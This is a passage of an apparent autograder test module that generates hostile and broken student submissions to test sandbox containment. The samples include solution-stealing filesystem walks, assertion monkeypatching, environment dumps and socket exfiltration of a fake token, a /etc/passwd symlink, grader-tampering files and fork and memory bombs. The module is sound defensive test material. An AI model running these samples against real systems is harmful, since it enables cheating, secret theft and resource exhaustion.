"""The hostile and broken submission corpus, generated at test time from solutions/ and exercises/.

Every entry is a `Case`: a name, what it attacks, a builder that writes a small fork-shaped folder
(``exercises/<id>/<id>.py`` and/or ``.ipynb``, ``metrics.json``, plus tampered extras) and the
asserted `Expect`ation. Builders start from the reference solution (or the release) and patch one
solution region with `grader.demo.samples.replace_region`, so the corpus stays small and never drifts
from the course. `tests/unit/sandbox/test_corpus.py` grades each entry in the sandbox and checks it.

Expectation rules: each test of the graded assignment is matched against the case's rules in
order (regular expression searched in the test name); the first rule that matches gives the
allowed outcomes and a feedback substring (any of several, case-insensitive) that must name the
cause. A test no rule matches must grade as it does for the reference: passed (or skipped because
it needs a GPU). So "the unaffected parts are graded normally" is checked for every case.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import textwrap
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from grader.core.results import AssignmentResult, Environment, GradeResult, TestResult
from grader.demo.samples import replace_region

M9 = "m9_roofline"
GF = "gpu_fundamentals"

# The fake secret the trusted process holds while grading the env-scanning case.
FAKE_TOKEN = "ghp_CORPUSFAKEtoken0123456789abcdefABCDEF"
# Written into the corpus course root's hidden tests and solutions: must never reach a result.
CANARY = "CANARY-hidden-9f3e1c2a-never-in-a-result"



def machine_scale() -> float:
    """How much longer than on an idle machine things take here now: the corpus's time limits
    and wall-time bounds are multiplied by it, so that `make test` passes beside another one.

    GRADER_CORPUS_SCALE overrides. Otherwise the larger of the run queue per core (1-minute load
    average) and this process's share of a core over a short busy loop (wall time / CPU time),
    times 1.5 for the load that starts after this measurement; between 1.5 and 5.
    """
    forced = os.environ.get("GRADER_CORPUS_SCALE")
    if forced:
        return float(forced)
    load = os.getloadavg()[0] / (os.cpu_count() or 1)
    wall0, cpu0 = time.perf_counter(), time.process_time()
    while time.perf_counter() - wall0 < 0.25:
        sum(range(10_000))
    share = (time.process_time() - cpu0) / (time.perf_counter() - wall0)
    return round(min(5.0, max(1.5, 1.5 * max(load, 1 / max(share, 0.2)))), 2)


SCALE = machine_scale()
# Limits of the corpus course (course.toml of the corpus root): real limits, scaled down so that
# the timeout cases cost seconds, not minutes, then up by SCALE for a busy machine. The sandbox
# and the suites read them from there. (Unscaled, a 5 s call limit timed out on m9_record when
# two `make test` ran on one 2-core machine.)
BASE_LIMITS = {
    "call_timeout_s": 5,
    "kernel_timeout_s": 40,
    "import_timeout_s": 6,
    "submission_timeout_s": 60,
}
CORPUS_LIMITS = {key: round(value * SCALE, 1) for key, value in BASE_LIMITS.items()}


def scaled(limits: dict[str, Any]) -> dict[str, Any]:
    """A case's own limit overrides, time limits scaled like CORPUS_LIMITS."""
    return {k: round(v * SCALE, 1) if k.endswith("_s") else v for k, v in limits.items()}


@dataclass
class Ctx:
    """What builders may use: the corpus course root and the reference texts."""

    root: Path  # the corpus course root (a copy of the course with CORPUS_LIMITS)
    solutions: dict[str, str]  # assignment id -> reference .py text
    metrics: dict  # the reference metrics.json (m9 record + another milestone's key)
    port: int = 0  # a TCP server the test started on 127.0.0.1
    real_root: Path | None = None  # the repository the grader package lives in

    @property
    def release(self) -> Path:
        return self.root / "exercises"


@dataclass
class Rule:
    pattern: str  # regex searched in the test name ("suite/test_name[param]")
    outcomes: tuple[str, ...]
    feedback: tuple[str, ...] = ()  # one of these substrings (case-insensitive) must appear
    required: bool = True  # at least one test must match this rule


@dataclass
class Expect:
    assignment: str
    rules: list[Rule] = field(default_factory=list)
    error: tuple[str, ...] = ()  # substrings of the assignment-wide error (any of)
    warnings: tuple[str, ...] = ()  # each must appear in some warning
    max_s: float = 40.0  # wall-time bound of the whole grading
    limits: dict[str, Any] = field(default_factory=dict)  # per-case sandbox limits override
    check: Callable[[Any, Ctx], None] | None = None  # extra assertions on the GradeResult
    # assignments graded before `assignment` in the same grading (the same workers): what one
    # assignment's tests leave behind, another's may read (the privacy family)
    first: tuple[str, ...] = ()

    @property
    def graded(self) -> list[str]:
        """The assignments the case's grading grades, in order."""
        return [*self.first, self.assignment]


@dataclass
class Case:
    name: str
    attacks: str
    build: Callable[[Path, Ctx], None]
    expect: Expect
    slow: bool = False
    env: dict[str, str] = field(default_factory=dict)  # set in the trusted process while grading
    # Graded on its own right after its build, never in the corpus's shared batch (two gradings
    # at once): its build starts processes that must run beside its grading (a victim, a
    # sleeper), or its grading runs close to a scaled-down time limit by design (the bounds).
    alone: bool = False


# ----------------------------------------------------------------------------- source helpers


def _cell_bounds(lines: list[str], grade_id: str) -> tuple[int, int]:
    head = next(i for i, line in enumerate(lines)
                if line.startswith("# %%") and f'"grade_id": "{grade_id}"' in line)
    end = next((i for i in range(head + 1, len(lines)) if lines[i].startswith("# %%")),
               len(lines))
    return head, end


def replace_cell(source: str, grade_id: str, code: str) -> str:
    """Replace the whole body of cell `grade_id` (header kept) with `code`."""
    lines = source.splitlines()
    head, end = _cell_bounds(lines, grade_id)
    return "\n".join(lines[: head + 1] + code.strip("\n").splitlines() + [""] + lines[end:]) + "\n"


def insert_cell_before(source: str, grade_id: str, code: str) -> str:
    """A new untagged code cell just before cell `grade_id` (it runs at import time)."""
    lines = source.splitlines()
    head, _ = _cell_bounds(lines, grade_id)
    new = ["# %%", *code.strip("\n").splitlines(), ""]
    return "\n".join(lines[:head] + new + lines[head:]) + "\n"


def patch(source: str, grade_id: str, body: str) -> str:
    return replace_region(source, grade_id, textwrap.dedent(body).strip("\n").splitlines())


def to_ipynb(py_text: str) -> str:
    import jupytext

    return jupytext.writes(jupytext.reads(py_text, fmt="py:percent"), fmt="ipynb")


def write_fork(dest: Path, sources: dict[str, str] | None = None, metrics: Any = "ref",
               ctx: Ctx | None = None, ipynb: dict[str, str] | None = None) -> None:
    """exercises/<id>/<id>.py (and .ipynb) plus metrics.json ("ref": the reference record)."""
    for aid, text in (sources or {}).items():
        folder = dest / "exercises" / aid
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{aid}.py").write_text(text, encoding="utf-8")
    for aid, text in (ipynb or {}).items():
        folder = dest / "exercises" / aid
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{aid}.ipynb").write_text(text, encoding="utf-8")
    if metrics == "ref":
        assert ctx is not None
        metrics = ctx.metrics
    if metrics is not None:
        dest.mkdir(parents=True, exist_ok=True)
        text = metrics if isinstance(metrics, str) else json.dumps(metrics, indent=2)
        (dest / "metrics.json").write_text(text, encoding="utf-8")


def patched(aid: str, grade_id: str, body: str) -> Callable[[Path, Ctx], None]:
    """Builder: the reference with one solution region replaced, reference metrics.json."""

    def build(dest: Path, ctx: Ctx) -> None:
        write_fork(dest, {aid: patch(ctx.solutions[aid], grade_id, body)}, ctx=ctx)

    return build


def with_source(aid: str, edit: Callable[[str, Ctx], str], metrics: Any = "ref"):
    def build(dest: Path, ctx: Ctx) -> None:
        write_fork(dest, {aid: edit(ctx.solutions[aid], ctx)}, metrics=metrics, ctx=ctx)

    return build


def _fn(name: str) -> str:
    """Regex for the tests of graded function `name` (its own and the invalid-input cases);
    m9_record's include the metrics tests, which call it to reproduce metrics.json."""
    own = rf"(^|/)test_{name}(_|\[|$)|\[{name}\("
    return own + r"|test_metrics_" if name == "m9_record" else own


OK = ("passed",)
KV = r"test_kv_bytes|\[kv_bytes_per_token\("
CASCADE_KV = (
    r"test_(decode_intensity|crossover_batch|m9_record_|metrics_|(decode_)?tokens_per_s|"
    r"kv_cache_fits|untied_input_table|max_batch_that_fits|decode_step_breakdown|prefill|ttft|"
    r"decode_utilization|ragged_decode_step|max_batch_under_tpot|continuous_batching|"
    r"decode_attention_intensity|chunked_prefill_and_decode_attention)"
)
# Its configs are invalid, so it raises before a broken kv_bytes_per_token or num_params matters.
SERVING_INVALID = Rule(r"test_(serving|batching)_invalid_arguments", ("passed", "failed", "error"),
                       (), required=False)
# Tests that fail for the reference itself in the sandbox (a suite bug): they may fail in any
# case; a rule that names them still applies first. Empty since hidden/test_save_metric_keeps_
# other_keys reads its file back through the worker (commit aab025d).
KNOWN_BROKEN: set[str] = set()
BROKEN = ("failed", "error")
MAYBE_KV = ("passed", "failed", "error")
ALL_STUDENT = r"^(public|hidden)/test_(?!metrics)"  # refined per suite in _student_tests()


def _student_tests(aid: str) -> str:
    """Tests that call student code: all of them, the metrics tests included (they reproduce
    metrics.json with the student's own m9_record, issue 10)."""
    return r"^(public|hidden)/test_"


# ----------------------------------------------------------------------------- checks


def _json_of(result) -> str:
    return result.to_json()


def _no_token(result, ctx: Ctx) -> None:
    text = _json_of(result)
    assert FAKE_TOKEN not in text, "the grader's GITHUB_TOKEN reached the result"
    assert FAKE_TOKEN[4:20] not in text


def _no_canary(result, ctx: Ctx) -> None:
    text = _json_of(result)
    assert CANARY not in text, "hidden-test or solution content reached the result"
    assert "def test_" not in text, "source code of a test file reached the result"
    assert "### BEGIN SOLUTION" not in text


# ----------------------------------------------------------------------------- hostile code

READ_HIDDEN = r'''
import os, time
from pathlib import Path
found = []
candidates = [Path({root!r}) / "tests" / "hidden", Path({root!r}) / "solutions"]
try:
    import grader
    repo = Path(grader.__file__).resolve().parent.parent
    candidates += [repo / "tests" / "hidden", repo / "solutions"]
except Exception:
    pass
for folder in candidates:
    try:
        for p in sorted(folder.rglob("*")):
            if p.is_file():
                found.append(p.read_text(errors="replace")[:2000])
    except OSError:
        pass
t0 = time.monotonic()
for dirpath, dirnames, filenames in os.walk("/"):
    dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", "usr", "lib", "lib64",
                                                  "bin", "sbin", "etc", "var", "boot", "snap")]
    if time.monotonic() - t0 > 3:
        break
    parts = Path(dirpath).parts
    if ("hidden" in parts and "tests" in parts) or "solutions" in parts:
        for f in filenames:
            try:
                found.append(Path(dirpath, f).read_text(errors="replace")[:2000])
            except OSError:
                pass
return "\n".join(found)
'''

CHEAT_WITH_SOLUTIONS = r'''
import os, time, types
from pathlib import Path
places = [Path({root!r}) / "solutions" / "m9_roofline" / "m9_roofline.py"]
try:
    import grader
    places.append(Path(grader.__file__).resolve().parent.parent / "solutions" / "m9_roofline"
                  / "m9_roofline.py")
except Exception:
    pass
t0 = time.monotonic()
for dirpath, dirnames, filenames in os.walk("/"):
    dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", "usr", "lib", "lib64")]
    if time.monotonic() - t0 > 3:
        break
    if "m9_roofline.py" in filenames and "solutions" in Path(dirpath).parts:
        places.append(Path(dirpath) / "m9_roofline.py")
for place in places:
    try:
        text = place.read_text()
    except OSError:
        continue
    ref = types.ModuleType("stolen")
    try:
        exec(compile(text.split("# %% [markdown]\n# ## 9.")[0], "stolen", "exec"), ref.__dict__)
        return ref.kv_bytes_per_token(cfg, dtype_bytes)
    except Exception:
        continue
return 0
'''

MONKEYPATCH = '''
import builtins, math
import numpy
import numpy.testing
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
numpy.array_equal = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: True
math.isclose = lambda *a, **k: True
builtins.isinstance = (lambda f: (lambda obj, cls: True if cls is int else f(obj, cls)))(
    builtins.isinstance)
try:
    import pytest
    pytest.approx = lambda expected, *a, **k: type("Yes", (), {"__eq__": lambda s, o: True})()
except Exception:
    pass
import sys
sys.modules["pytest"] = None
'''

# ----------------------------------------------------------------------------- the entries


def _broken_notebook(feedback: tuple[str, ...], aid: str = M9, max_s: float = 30.0,
                     **kw) -> Expect:
    return Expect(aid, [Rule(_student_tests(aid), BROKEN + ("timeout",), feedback)],
                  max_s=max_s, **kw)


def _untouched_release_with_tampering(dest: Path, ctx: Ctx) -> None:
    shutil.copytree(ctx.release / M9, dest / "exercises" / M9)
    write_fork(dest, metrics="ref", ctx=ctx)
    for rel, text in {
        "conftest.py": "import pytest\n\n@pytest.hookimpl(hookwrapper=True)\n"
                       "def pytest_runtest_makereport(item, call):\n"
                       "    out = yield\n    out.get_result().outcome = 'passed'\n",
        f"tests/public/{M9}/test_free_points.py":
            "import pytest\n\n@pytest.mark.points(100)\ndef test_free():\n    assert True\n",
        f"tests/hidden/{M9}/test_m9_roofline_hidden.py": "def test_nothing():\n    pass\n",
        "grader/suites/plugin.py": "raise SystemExit('pwned')\n",
        "grader/suites/runner.py": "def run_assignment(*a, **k):\n    return 'full marks'\n",
        ".github/workflows/grade.yml": "on: pull_request_target\njobs: {}\n",
        "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p no:grader'\n",
        "course.toml": "[limits]\ncall_timeout_s = 100000\n",
    }.items():
        p = dest / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text, encoding="utf-8")


def _symlinks(dest: Path, ctx: Ctx) -> None:
    folder = dest / "exercises" / M9
    folder.mkdir(parents=True)
    # The graded notebook is a symlink to the reference solution: full marks if it were followed.
    (folder / f"{M9}.py").symlink_to(ctx.root / "solutions" / M9 / f"{M9}.py")
    (folder / "passwd.txt").symlink_to("/etc/passwd")
    (dest / "metrics.json").symlink_to(ctx.root / "solutions" / "metrics-canary.json")


def _dotdot(dest: Path, ctx: Ctx) -> None:
    write_fork(dest, {M9: ctx.solutions[M9]}, ctx=ctx)
    folder = dest / "exercises" / M9
    (folder / "..evil.py").write_text("raise SystemExit\n")
    (dest / "exercises" / "..hidden").mkdir()
    (dest / "exercises" / "..hidden" / "x.py").write_text("x = 1\n")
    (folder / "notes..md").write_text("two dots\n")


def _ipynb_only(dest: Path, ctx: Ctx) -> None:
    write_fork(dest, ipynb={M9: to_ipynb(ctx.solutions[M9])}, ctx=ctx)


def _disagree(dest: Path, ctx: Ctx) -> None:
    # .py: the untouched release (no work); .ipynb: the solution (Colab edits the notebook).
    folder = dest / "exercises" / M9
    folder.mkdir(parents=True)
    shutil.copy(ctx.release / M9 / f"{M9}.py", folder / f"{M9}.py")
    write_fork(dest, ipynb={M9: to_ipynb(ctx.solutions[M9])}, ctx=ctx)


def _both_changed(dest: Path, ctx: Ctx) -> None:
    # Both changed and different: the .ipynb is graded (with a warning). The .py is the solution,
    # the .ipynb the solution with num_params broken: num_params tests fail, proving which was run.
    broken = patch(ctx.solutions[M9], "save_metric", "return None")
    write_fork(dest, {M9: ctx.solutions[M9]}, ipynb={M9: to_ipynb(broken)}, ctx=ctx)


def _corrupt_ipynb(dest: Path, ctx: Ctx) -> None:
    write_fork(dest, ipynb={M9: '{"cells": [ {"cell_type": "code", "source": "x = 1"'}, ctx=ctx)


def _corrupt_ipynb_with_release_py(dest: Path, ctx: Ctx) -> None:
    folder = dest / "exercises" / M9
    folder.mkdir(parents=True)
    shutil.copy(ctx.release / M9 / f"{M9}.py", folder / f"{M9}.py")
    write_fork(dest, ipynb={M9: "\x00\x01 not json at all"}, ctx=ctx)


def _huge_outputs(dest: Path, ctx: Ctx) -> None:
    import jupytext
    import nbformat

    nb = jupytext.reads(ctx.solutions[M9], fmt="py:percent")
    blob = "x" * (1 << 20)
    out = nbformat.v4.new_output("stream", name="stdout", text=[blob] * 50)
    demo = next(c for c in nb.cells if "demo" in c.metadata.get("tags", []))
    demo.outputs = [out]
    demo.execution_count = 1
    write_fork(dest, ipynb={M9: nbformat.writes(nb)}, ctx=ctx)


def _non_ascii(dest: Path, ctx: Ctx) -> None:
    src = ctx.solutions[M9]
    src = insert_cell_before(src, "validate_config", '# Modèle « cours » — 模型 🚀\n'
                             'ÉTIQUETTE = "décodage à batch 1 ✓ 解码"\nπ = 3.14159\n'
                             'def größe(x):\n    return x * π\n')
    src = patch(src, "num_params", '''
        validate_config(cfg)
        dim = cfg["dim"]  # größe: ≈ 1.3 M paramètres
        kopf = dim // cfg["n_heads"]
        kv = cfg["n_kv_heads"] * kopf
        einbettung = cfg["vocab_size"] * dim
        tête = 0 if cfg["tied_embeddings"] else cfg["vocab_size"] * dim
        schicht = 2 * dim * dim + 2 * dim * kv + 3 * dim * cfg["ffn_hidden_dim"] + 2 * dim
        return int(einbettung + tête + cfg["n_layers"] * schicht + dim)
    ''')
    write_fork(dest, {M9: src}, ctx=ctx)
    (dest / "exercises" / M9 / "données_é_模型.csv").write_text("clé,valeur\nπ,3.14\n",
                                                                encoding="utf-8")


def _metrics(value: Any) -> Callable[[Path, Ctx], None]:
    def build(dest: Path, ctx: Ctx) -> None:
        v = value(ctx) if callable(value) else value
        write_fork(dest, {M9: ctx.solutions[M9]}, metrics=v, ctx=ctx)

    return build


def _forged(ctx: Ctx) -> dict:
    rec = dict(ctx.metrics[M9])
    rec.update(intensity_b1=0.5, intensity_b8=4.0, intensity_b32=16.0, crossover_batch=64,
               conclusion="At batch 1 decode is deeply bandwidth-bound.")
    return {**ctx.metrics, M9: rec}


def _nan_strings(ctx: Ctx) -> str:
    rec = dict(ctx.metrics[M9])
    text = json.dumps({**ctx.metrics, M9: {**rec, "intensity_b1": "__NAN__",
                                            "intensity_b8": "4.0", "intensity_b32": "lots"}})
    return text.replace('"__NAN__"', "NaN")


def _hundred_mb(dest: Path, ctx: Ctx) -> None:
    write_fork(dest, {M9: ctx.solutions[M9]}, metrics=None, ctx=ctx)
    with (dest / "metrics.json").open("w") as fh:
        fh.write('{"m9_roofline": ' + json.dumps(ctx.metrics[M9]) + ', "padding": "')
        chunk = "x" * (1 << 20)
        for _ in range(100):
            fh.write(chunk)
        fh.write('"}')


def prepend(source: str, grade_id: str, code: str) -> str:
    """Run `code` first, then the reference body of `grade_id`."""
    body = textwrap.dedent(code).strip("\n") + "\n" + _region(source, grade_id)
    return replace_region(source, grade_id, body.splitlines())


def _socket(src: str, ctx: Ctx) -> str:
    return prepend(src, "m9_record", f'''
        import socket as _socket
        if not globals().get("_sent"):
          globals()["_sent"] = True
          try:
            with _socket.create_connection(("127.0.0.1", {ctx.port}), timeout=2) as _s:
                _s.sendall(b"exfiltrated " + repr(sorted(__import__("os").environ)).encode())
          except OSError:
            pass
    ''')


def _fork_server(src: str, ctx: Ctx) -> str:
    # The batch's fork server listens on a unix socket in the batch's temp dir (pymp-*/listener-*):
    # whoever connects to it gets a process forked from the trusted side, running what it sends.
    return prepend(src, "m9_record", """
        import glob as _glob, os as _os, socket as _socket, stat as _stat, tempfile as _tf
        if not globals().get("_probed"):
          globals()["_probed"] = True
          _found = set(_glob.glob("/tmp/pymp-*/*")) | set(_glob.glob(_tf.gettempdir() + "/pymp-*/*"))
          for _top in ("/tmp", "/run", "/var/tmp", _os.getcwd()):
            for _d, _, _files in _os.walk(_top):
              _found |= {_os.path.join(_d, _f) for _f in _files}
          for _path in sorted(_found):
            try:
              if not _stat.S_ISSOCK(_os.stat(_path).st_mode):
                continue
              with _socket.socket(_socket.AF_UNIX) as _s:
                _s.settimeout(2)
                _s.connect(_path)
            except OSError:
              continue
            raise RuntimeError("reached a unix socket of the grader: " + _path)
    """)


def _region(source: str, grade_id: str) -> str:
    lines = source.splitlines()
    head, _ = _cell_bounds(lines, grade_id)
    begin = next(i for i in range(head, len(lines)) if "### BEGIN SOLUTION" in lines[i])
    end = next(i for i in range(begin, len(lines)) if "### END SOLUTION" in lines[i])
    return textwrap.dedent("\n".join(lines[begin + 1: end]))


def _env_scan(src: str, ctx: Ctx) -> str:
    src = insert_cell_before(src, "validate_config",
                             'import os as _os\nprint("ENV", dict(_os.environ))\n'
                             'import sys as _sys\n_sys.stderr.write(repr(dict(_os.environ)))\n')
    return patch(src, "m9_record", '''
        import os
        return {"conclusion": repr(dict(os.environ)), "environ": dict(os.environ)}
    ''')


def _process_table_clean(result, ctx: Ctx) -> None:
    import subprocess

    out = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    assert "corpus-fork-bomb" not in out, "fork-bomb children outlived the worker"


CASES: list[Case] = [
    # --- broken Python ---------------------------------------------------------------------
    # One broken cell costs what depends on it (cell by cell, as nbgrader; cases_cells.py).
    Case("syntax_error_one_cell", "a syntax error in one cell (save_metric)",
         with_source(M9, lambda s, c: replace_cell(s, "save_metric",
                                                   "def save_metric(path, key, value:\n    pass")),
         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ("SyntaxError",))],
                warnings=("SyntaxError",))),
    Case("import_missing_module", "imports a module that does not exist, at import time",
         with_source(M9, lambda s, c: insert_cell_before(
             s, "validate_config", "import no_such_module_corpus_xyz\n")),
         Expect(M9, [], warnings=("ModuleNotFoundError",))),
    Case("function_missing", "a graded function (save_metric) deleted",
         with_source(M9, lambda s, c: replace_cell(s, "save_metric", "pass")),
         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ("save_metric is not defined",))])),
    Case("function_renamed", "save_metric renamed to save_metrics",
         with_source(M9, lambda s, c: s.replace("def save_metric(", "def save_metrics(")),
         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ("save_metric is not defined",))])),
    Case("wrong_signature", "save_metric(path, key): the value argument dropped",
         with_source(M9, lambda s, c: s.replace("def save_metric(path, key, value):",
                                                "def save_metric(path, key):\n    value = None")),
         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ("TypeError", "argument"))])),
    Case("returns_none", "m9_record returns None",
         patched(M9, "m9_record", "return None"),
         Expect(M9, [Rule(_fn("m9_record"), BROKEN, ("None",))])),
    Case("returns_string", "kv_bytes_per_token returns a string (\"1024\")",
         patched(M9, "kv_bytes_per_token", 'return "1024"'),
         Expect(M9, [Rule(KV, BROKEN, ("'1024'",)), SERVING_INVALID,
                     # Fraction("1024") parses the string: the capacity functions compute on,
                     # with the cache at the wrong size (or, by luck, the right one)
                     Rule(r"test_kv_cache_fits|test_max_batch_that_fits", MAYBE_KV, (),
                          required=False),
                     Rule(r"\[(decode_intensity|crossover_batch)\(", OK, ()),
                     Rule(CASCADE_KV, BROKEN, ("TypeError", "str"))])),
    Case("returns_nan", "ridge_point returns NaN",
         patched(GF, "ridge_point", 'return float("nan")'),
         Expect(GF, [Rule(_fn("ridge_point"), BROKEN, ("nan",)),
                     Rule(r"\[is_memory_bound\(-1", OK, ()),
                     Rule("is_memory_bound", BROKEN, ("memory-bound", "returned"))],
                max_s=60), slow=True),
    Case("returns_million_list", "m9_record returns a list of a million items",
         patched(M9, "m9_record", "return list(range(1_000_000))"),
         # encoding a million items in the worker can outlast the call limit on a busy machine
         # (two `make test` at once): both are bounded and named
         Expect(M9, [Rule(_fn("m9_record"), BROKEN + ("timeout",),
                          ("got list", "returned", "took longer than"))],
                check=lambda r, c: _small(r))),
    Case("eq_always_true", "m9_record returns an object whose __eq__ is always True",
         patched(M9, "m9_record", '''
             class Liar(dict):
                 def __eq__(self, other):
                     return True
                 def __ne__(self, other):
                     return False
                 def __contains__(self, key):
                     return True
             return Liar()
         '''),
         Expect(M9, [Rule(_fn("m9_record"), BROKEN, ("not plain data",))])),
    # --- resource abuse ----------------------------------------------------------------------
    Case("infinite_loop_at_import", "while True at import time",
         with_source(M9, lambda s, c: insert_cell_before(s, "validate_config",
                                                         "while True:\n    pass\n")),
         _broken_notebook(("took longer than", "time budget"), max_s=80,
                          limits={"submission_timeout_s": 40}),
         slow=True),
    Case("infinite_loop_in_function", "while True inside m9_record only",
         patched(M9, "m9_record", "while True:\n    pass"),
         Expect(M9, [Rule(_fn("m9_record"), ("timeout", "failed"), ("took longer than",))],
                max_s=60),
         slow=True),
    Case("sleep_forever", "time.sleep(10**6) in save_metric",
         patched(M9, "save_metric", "import time\ntime.sleep(10**6)"),
         Expect(M9, [Rule(_fn("save_metric"), ("timeout", "failed"), ("took longer than",))],
                max_s=60),
         slow=True),
    Case("memory_bomb_huge", "asks for 64 GB at once in save_metric (RLIMIT_AS refuses it)",
         patched(M9, "save_metric", "hog = bytearray(64 << 30)"),
         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ("MemoryError",))])),
    Case("memory_bomb", "allocates 1 GB chunks until the address-space limit in save_metric "
         "(on a slow machine the call timeout may come first: both are bounded and named)",
         patched(M9, "save_metric", '''
             hog = []
             while True:
                 hog.append(bytearray(1 << 30))
         '''),
         Expect(M9, [Rule(_fn("save_metric"), BROKEN + ("timeout",),
                          ("MemoryError", "took longer than"))], max_s=60)),
    Case("fork_bomb_bounded", "forks 500 sleeping children (corpus-fork-bomb) in save_metric",
         patched(M9, "save_metric", '''
             import os, sys, time
             for _ in range(500):
                 if os.fork() == 0:
                     sys.argv[:] = ["corpus-fork-bomb"]
                     time.sleep(600)
                     os._exit(0)
             return {}
         '''),
         Expect(M9, [Rule(_fn("save_metric"), BROKEN + ("timeout",),
                          ("BlockingIOError", "Resource temporarily unavailable", "took longer",
                           "worker"))],
                check=_process_table_clean)),
    Case("os_exit_mid_test", "os._exit(0) inside save_metric",
         patched(M9, "save_metric", "import os\nos._exit(0)"),
         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ("exited with code 0",))])),
    Case("segfault_ctypes", "dereferences NULL through ctypes in save_metric",
         patched(M9, "save_metric", "import ctypes\nctypes.string_at(0)"),
         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ("SIGSEGV",))])),
    Case("stdout_1gb", "prints 1 GB to stdout once, then answers correctly (m9_record)",
         with_source(M9, lambda s, c: prepend(s, "m9_record", '''
             import sys
             if not globals().get("_printed_1gb"):
                 globals()["_printed_1gb"] = True
                 _chunk = "x" * (1 << 20)
                 for _ in range(1024):
                     sys.stdout.write(_chunk)
                 sys.stdout.flush()
         ''')),
         Expect(M9, [Rule(_fn("m9_record"), OK + ("timeout",), (), required=False)],
                max_s=120, check=lambda r, c: _small(r)),
         slow=True),
    Case("file_1gb", "writes 1 GB to a file in its working directory (save_metric)",
         patched(M9, "save_metric", '''
             with open("big.bin", "wb") as fh:
                 for _ in range(1024):
                     fh.write(b"x" * (1 << 20))
         '''),
         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ("File too large", "Errno 27"))])),
    # --- kernels -----------------------------------------------------------------------------
    Case("kernel_no_bounds_check", "vector_add without `if i < c.size`",
         patched(GF, "vector_add", "i = cuda.grid(1)\nc[i] = a[i] + b[i]"),
         Expect(GF, [Rule(r"test_vector_add_(small|sizes)|test_gpu_vector_add", BROKEN,
                          ("out of bounds", "IndexError")),
                     Rule(r"test_vector_add_(float64|compiles)", OK + BROKEN, (), required=False)],
                max_s=60), slow=True),
    Case("kernel_wrong_index", "vector_add uses threadIdx.x only (no block offset)",
         patched(GF, "vector_add", "i = cuda.threadIdx.x\nif i < c.size:\n    c[i] = a[i] + b[i]"),
         # sizes drawn per student: a tiny vector is one block (it passes); a small odd one
         # may be one block too, by its draw. Two blocks write the same elements: racecheck's
         # write-after-write finding, or (past the checked prefix) outputs that differ
         Expect(GF, [Rule(r"test_vector_add_sizes\[tiny\]", OK, ()),
                     Rule(r"test_vector_add_sizes\[odd\]|test_gpu_vector_add_random",
                          OK + BROKEN, ("differ", "write-after-write race"), required=False),
                     Rule(r"test_vector_add_(small|sizes|float64|compiles)|"
                          r"test_gpu_vector_add_small", BROKEN,
                          ("differ", "write-after-write race"))],
                max_s=60), slow=True),
    Case("kernel_writes_input", "vector_add writes its result into its input a",
         patched(GF, "vector_add", "i = cuda.grid(1)\nif i < c.size:\n    a[i] = a[i] + b[i]\n"
                                   "    c[i] = a[i]"),
         # compiles_to_ptx launches vector_add(a, a, c): both inputs travel as separate copies
         # and the untouched copy of `a` is copied back last, so that test passes.
         Expect(GF, [Rule(r"test_vector_add_compiles", OK, ()),
                     Rule(r"test_vector_add_(small|float64)", BROKEN, ("differ",)),
                     Rule(r"test_vector_add_sizes", BROKEN, ("changed its inputs",))],
                max_s=60), slow=True),
    Case("kernel_not_ptx", "vector_add uses a dict: fine in the simulator, not compilable",
         patched(GF, "vector_add", "i = cuda.grid(1)\nif i < c.size:\n    d = {}\n"
                                   "    d[0] = a[i]\n    c[i] = d[0] + b[i]"),
         # compiled for the GPU before any launch: none of its kernel points (issue 10)
         Expect(GF, [Rule(r"test_vector_add_(small|sizes|float64|compiles)|"
                          r"test_gpu_vector_add_(small|random)", BROKEN,
                          ("does not compile for the course GPU",))], max_s=60), slow=True),
    Case("tiled_without_shared_memory", "transpose_tiled gives the right answer straight from "
         "global memory, with no shared tile and no barrier",
         patched(GF, "transpose_tiled", '''
             lane = cuda.threadIdx.x
             first_row = cuda.blockIdx.y * TILE
             first_col = cuda.blockIdx.x * TILE
             for r in range(TILE):
                 if first_row + r < src.shape[0] and first_col + lane < src.shape[1]:
                     dst[first_col + lane, first_row + r] = src[first_row + r, first_col + lane]
         '''),
         Expect(GF, [Rule(r"test_transpose_tiled_coalesces_both_ways", ("failed",),
                          ("ideal sectors",)),
                     Rule(r"test_transpose_tiled_(moves_each_element_once|reads_the_tile)",
                          ("failed",), ("shared memory",))], max_s=60), slow=True),
    Case("grid_too_small", "gpu_vector_add launches n // tpb blocks (rounds down)",
         patched(GF, "gpu_vector_add", '''
             a = np.asarray(a)
             b = np.asarray(b)
             d_a = cuda.to_device(np.ascontiguousarray(a).ravel())
             d_b = cuda.to_device(np.ascontiguousarray(b).ravel())
             d_c = cuda.to_device(np.zeros(a.size, dtype=np.result_type(a, b)))
             blocks = max(1, a.size // threads_per_block)
             vector_add[blocks, threads_per_block](d_a, d_b, d_c)
             return d_c.copy_to_host().reshape(a.shape)
         '''),
         Expect(GF, [Rule(r"test_gpu_vector_add_random", OK + BROKEN, ("differ",),
                          required=False),  # random n < block size: one block is enough
                     Rule(r"test_gpu_vector_add_small", BROKEN, ("differ",)),
                     Rule(r"gpu_vector_add\(shape", BROKEN + OK, (), required=False)],
                max_s=60), slow=True),
    # --- metrics.json ------------------------------------------------------------------------
    Case("metrics_missing", "no metrics.json", _metrics(None),
         Expect(M9, [Rule("metrics", BROKEN, ("metrics.json not found",))])),
    Case("metrics_corrupt", "metrics.json is not JSON", _metrics('{"m9_roofline": {"intens'),
         Expect(M9, [Rule("metrics", BROKEN, ("not valid JSON",))])),
